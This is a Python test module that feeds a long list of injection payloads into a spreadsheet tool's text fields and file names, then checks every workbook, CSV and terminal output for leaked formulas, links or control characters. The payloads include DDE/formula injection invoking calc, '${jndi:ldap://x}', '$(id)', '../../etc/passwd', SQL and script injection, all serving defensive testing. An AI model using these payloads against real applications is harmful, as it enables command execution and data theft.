"""Texts that some program would run, follow or obey, typed wherever a unit may type; nothing written may hold one.

Typed: free texts and claims of a book, and names of files. Written: every workbook, list, letter and line of the
terminal. A workbook must be well-formed and hold the formulas and links that it holds for harmless texts, no others.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import shutil
import unicodedata
import zipfile
from pathlib import Path
from xml.parsers import expat

from click.testing import CliRunner

from kit.figure import UNIT, Figure, issued_round
from kit.rounds import good_values, reopened, send
from xlperf.cli import main
from xlperf.engine.plan import Column

_STARTS = ("=", "+", "-", "@", "＝", "\t=", "\r=", "\n=", " =", "'=", '"=', "{=", "=-", "＋", "－", "＠")
_BODIES = (
    'HYPERLINK("http://x.invalid","点")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd|'x'!A0", 'WEBSERVICE("http://x.invalid")',
    "DDE(\"cmd\";\"/C calc\")", "1+1",
)  # fmt: skip
_OTHERS = (
    "http://x.invalid/a",
    "mailto:a@x.invalid",
    "file:///etc/passwd",
    "\\\\host\\share\\a.xlsx",
    "external:\\\\host\\a",
    "internal:Sheet1!A1",
    "#REF!",
    "#N/A",
    "#DIV/0!",
    "#NAME?",
    "<script>alert(1)</script>",
    "]]><f>1+1</f>",
    "</t></si>",
    "<r>丙</r>",
    "<r><t>丙</r>",
    "&lt;f&gt;",
    "&#x1b;[31m",
    "_x003D_1+1",
    "_x000D_=1",
    "%0A=1+1",
    "\x1b[2J\x1b[31m红",
    "\x1b]0;标题\x07",
    "\x07\x08\x0b\x0c",
    "\x00=1",
    "\u202e倒写",
    "\u2066隔离\u2069",
    "\u200f右",
    "\ufeff=1+1",
    "\u2028=1",
    "\u0085=1",
    "😀",
    "../../etc/passwd",
    "CON",
    "a" * 32_767,
    "长" * 32_000,
    "{0}{name}",
    "%s%n",
    "${jndi:ldap://x}",
    "{{7*7}}",
    "`id`",
    "$(id)",
    "'; DROP TABLE entries; --",
    '"""',
    "a,b;c\td",
    "=\u200b1+1",
    "\u3000=1+1",
    "\xa0=1",
    "TRUE",
    "1e999",
    "NaN",
    "−1+1",
)
_MARKS = ("\x01", "\x1f", "\x7f", "\x9b31m", "\u202a", "\u202b", "\u202c", "\u202d", "\u2067", "\u2068")
_TAILS = (" ", "\n", "\x1b[0m")
_TRIED = [start + body for body, start in itertools.product(_BODIES, _STARTS)]
_TAILED = [text + tail for tail in _TAILS for text in _TRIED[::6]]
PAYLOADS = tuple(dict.fromkeys([*_TRIED, *_OTHERS, *_TAILED, *(f"甲{c}乙" for c in _MARKS)]))
_OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_RUN = tuple("=+-@\t\r＝＋－＠")


def injections(count: int, folder: Path) -> Figure:
    """Type payloads wherever a unit may, forty at a time, and look at everything that is written afterwards."""
    figure, template = Figure("injections"), issued_round(folder / "template").folder
    harmless = _written(template, folder / "harmless", ["一段平常的话"] * 40)
    for start in range(0, min(count, len(PAYLOADS)), 40):
        some = list(PAYLOADS[start : start + 40])
        found = _written(template, folder / f"round{start}", some)
        for _ in some[: count - start]:
            figure.add("typed")
        for name, data in found.items():
            for wrong in _wrong(name, data, harmless.get(name)):
                figure.wrong.append(f"{start}: {name}: {wrong}")
    figure.tally["outputs looked at"] = len(harmless)
    return figure


def _written(template: Path, to: Path, payloads: list[str]) -> dict[str, bytes]:
    """Return every file and every answer of a round in which payloads were typed."""
    shutil.copytree(template, to)
    round_ = reopened(to)
    texts, changes = iter(payloads), {}
    free = [(s.name, c.name) for s in round_.plan.sheets for c in s.inputs() if is_free(c)]
    rows = [k for s, k, _ in good_values(round_, "unit", UNIT) if s == "marks"]
    for key in dict.fromkeys(rows):
        for sheet, column in free:
            if sheet == "marks" and (text := next(texts, "")):
                changes[sheet, key, column] = typable(text)
    send(round_, "unit", UNIT, changes, name="U22.xlsx")
    for number, payload in enumerate(payloads):
        name = re.sub("[/\x00]", "_", payload)[:60].strip() or "x"
        (round_.inbox / f"{number}{name}.xlsx").write_bytes(b"%PDF" + str(number).encode())
    found: dict[str, bytes] = {}
    runner = CliRunner(env={"XLPERF_LANG": "zh"})
    for words in (["collect"], ["status"], ["score"], ["verify"], ["collect", "--json"]):
        told = runner.invoke(main, [words[0], str(to), *words[1:]])
        assert told.exception is None or isinstance(told.exception, SystemExit), (words, told.exception)
        found[" ".join(words)] = told.output.encode("utf-8", "replace")
    for file in sorted((to / "out").rglob("*")):
        if file.is_file():
            found[file.relative_to(to / "out").as_posix()] = file.read_bytes()
    return found


def is_free(column: Column) -> bool:
    """Return whether a unit writes there what it likes."""
    return column.holds == "text" and not column.choices and column.by == "unit"


def typable(text: str) -> str:
    """Return a text as a cell can hold it: a file cannot say most control characters otherwise than escaped."""
    return "".join(
        c if c in "\t\n" or not unicodedata.category(c).startswith("Cc") else f"_x{ord(c):04X}_" for c in text
    )


def _wrong(name: str, data: bytes, harmless: bytes | None) -> list[str]:
    """List what an output holds that it must not."""
    if data.startswith(b"PK"):
        formulas, links, faults = _counted(data)
        usual = _counted(harmless)[:2] if harmless is not None else (formulas, links)
        return [*faults, *(["formulas or links"] if (formulas, links) != usual else [])]
    text = data.decode("utf-8-sig", "replace").replace("\r\n", "\n")
    wrong = [f"raw {m[0]!r}" for m in _OBEYED.finditer(text)][:3]
    if name.endswith(".csv"):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        wrong += [f"cell {c[:20]!r}" for c in cells if c.startswith(_RUN) and not re.fullmatch(r"-?[\d.]+", c)]
    return wrong


def _counted(data: bytes) -> tuple[int, int, list[str]]:
    """Return how many formulas and links a workbook holds, and which parts are not well-formed or hold an error."""
    formulas, links, faults = 0, 0, []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            text = book.read(name)
            if name.endswith((".xml", ".rels")):
                try:
                    expat.ParserCreate().Parse(text, True)
                except expat.ExpatError as fault:
                    faults.append(f"{name}: {fault}")
            if "worksheets/" in name:
                formulas += len(re.findall(rb"<f[ >]", text))
            links += len(re.findall(rb"<hyperlink |externalLink|TargetMode=\"External\"", text))
    return formulas, links, faults
